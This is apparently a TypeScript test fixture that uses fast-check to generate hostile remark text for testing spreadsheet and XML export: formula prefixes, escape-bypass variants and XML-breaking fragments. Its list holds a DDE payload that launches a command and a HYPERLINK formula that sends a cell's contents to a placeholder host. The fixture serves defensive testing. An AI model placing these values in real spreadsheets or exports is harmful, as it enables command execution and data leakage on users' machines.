/** Texts as a stranger may write them into a remark: formulas, separators, quotes, control and odd characters. */
import fc from 'fast-check'

export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '+1',
  '-1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  "'=1",
  "''=1",
]

const pieces = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\t', '\r', '\n', ' ', '＝'),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom('_x000D_', '_x0041_', '<f>1</f>', ']]>', '&amp;', '\x00', '\x0b', '\uffff'),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) },
)

/** Well-formed: rows are read from UTF-8, which has no half characters. */
export const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    fc.constantFrom(...FORMULAS),
    fc.array(pieces, { maxLength: 6 }).map(parts => parts.join('')),
  )
  .map(text => text.toWellFormed())
